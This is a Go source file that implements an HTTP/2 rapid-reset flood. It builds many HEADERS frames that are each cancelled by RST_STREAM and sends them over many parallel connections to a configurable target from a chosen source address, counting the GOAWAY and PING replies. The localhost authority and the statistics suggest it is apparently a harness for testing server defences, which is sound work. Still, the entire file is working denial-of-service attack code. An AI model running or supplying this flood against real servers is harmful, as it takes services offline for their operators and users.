package main

import (
	"bytes"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floodStats is what the flood saw.
type floodStats struct {
	opened, failedDial, goAways, acked atomic.Int64
}

// frames returns what one flood connection writes: the preface and
// SETTINGS, the HEADERS frames, and the RST_STREAM frames (with the
// HEADERS when not split), each batch ending in a PING.
func frames(path string, pairs int, split bool) (first, second []byte) {
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	var a, b bytes.Buffer
	a.WriteString(http2.ClientPreface)
	fa, fb := http2.NewFramer(&a, nil), http2.NewFramer(&b, nil)
	_ = fa.WriteSettings()
	rst := fa
	if split {
		rst = fb
	}
	for i := range pairs {
		id := uint32(2*i + 1)
		_ = fa.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
		if !split {
			_ = rst.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}
	if split {
		for i := range pairs {
			_ = rst.WriteRSTStream(uint32(2*i+1), http2.ErrCodeCancel)
		}
	}
	_ = rst.WritePing(false, [8]byte{'r', 'e', 's', 'e', 't'})
	return a.Bytes(), b.Bytes()
}

// flood runs the flood until stop or conns connections, at most parallel
// at once.
func flood(cfg runConfig, st *floodStats, stop <-chan struct{}) {
	first, second := frames(cfg.path, cfg.pairs, cfg.split)
	sem := make(chan struct{}, cfg.parallel)
	var wg sync.WaitGroup
	defer wg.Wait()
	for range cfg.conns {
		select {
		case <-stop:
			return
		case sem <- struct{}{}:
		}
		wg.Add(1)
		go func() {
			defer func() { <-sem; wg.Done() }()
			floodConn(cfg, first, second, st)
		}()
	}
}

// floodConn is one flood connection: its writes, then reading until the
// PING ACK, a GOAWAY, or its end (at most 2 s).
func floodConn(cfg runConfig, first, second []byte, st *floodStats) {
	d := net.Dialer{Timeout: 2 * time.Second, LocalAddr: &net.TCPAddr{IP: cfg.from}}
	c, err := d.Dial("tcp", cfg.target)
	if err != nil {
		st.failedDial.Add(1)
		time.Sleep(10 * time.Millisecond) // the server refuses: do not spin
		return
	}
	defer c.Close()
	st.opened.Add(1)
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Write(first); err != nil {
		return
	}
	if len(second) > 0 {
		time.Sleep(time.Millisecond) // the server reads the HEADERS apart
		if _, err := c.Write(second); err != nil {
			return
		}
	}
	fr := http2.NewFramer(io.Discard, c)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.PingFrame:
			if f.IsAck() {
				st.acked.Add(1)
				return
			}
		case *http2.GoAwayFrame:
			st.goAways.Add(1)
			return
		}
	}
}
